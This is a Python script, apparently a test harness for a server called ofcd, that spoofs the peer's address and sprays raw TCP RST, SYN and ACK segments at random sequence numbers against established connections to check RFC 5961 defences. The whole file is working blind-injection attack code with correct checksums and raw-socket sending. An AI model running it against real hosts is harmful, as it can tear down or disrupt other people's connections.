#!/usr/bin/env python3
"""An off-path attacker against established TCP connections to ofcd.

It knows each connection's addresses and ports (what an off-path attacker
can learn or guess) but not its sequence numbers, and sends raw segments
with the peer's address as source, at --rate a second for --duration
seconds, spread over the connections:
  rst   RSTs at random sequence numbers (RFC 5961 3: only RCV.NXT resets,
        the rest of the window earns a challenge ACK)
  syn   SYNs at random sequence numbers (RFC 5961 4: a challenge ACK when
        in the window, an ACK for an invalid segment when not)
  ack   ACKs at random sequence and acknowledgment numbers (out of the
        window: an ACK for an invalid segment)
Prints one line: what was sent, by kind.

usage: hostile_tcp_spoof.py --src IP --dst IP --dport N --sports P1,P2,...
"""
import argparse
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def segment(src, dst, sport, dport, seq, ack, flags):
    """IPv4 + TCP (20-byte header, no options, no payload), checksums right."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


FLAGS = {"rst": 0x04, "syn": 0x02, "ack": 0x10}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--sports", required=True, help="the connections' peer ports, comma-separated")
    ap.add_argument("--rate", type=float, default=3000)
    ap.add_argument("--duration", type=float, default=10)
    args = ap.parse_args()
    sports = [int(p) for p in args.sports.split(",") if p]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = {k: 0 for k in FLAGS}
    kinds = list(FLAGS)
    start = time.monotonic()
    n = 0
    while True:
        now = time.monotonic() - start
        if now >= args.duration:
            break
        if n >= now * args.rate:
            time.sleep(0.001)
            continue
        kind = kinds[n % len(kinds)]
        sport = sports[n % len(sports)]
        pkt = segment(args.src, args.dst, sport, args.dport, random.getrandbits(32),
                      random.getrandbits(32) if kind == "ack" else 0, FLAGS[kind])
        s.sendto(pkt, (args.dst, 0))
        sent[kind] += 1
        n += 1
    print("spoofed %d segments at %d connections in %.1f s: %s" % (
        n, len(sports), args.duration, ", ".join("%s %d" % kv for kv in sent.items())))


if __name__ == "__main__":
    main()
